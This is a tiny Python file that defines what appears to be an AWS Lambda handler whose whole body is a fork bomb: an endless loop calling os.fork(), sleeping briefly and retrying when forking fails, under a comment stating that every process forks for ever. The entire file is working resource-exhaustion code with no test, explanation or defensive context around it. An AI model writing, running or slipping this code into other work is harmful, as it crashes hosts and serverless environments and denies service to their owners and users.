# Every process forks as often as it can, for ever.
import os
import time


def lambda_handler(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
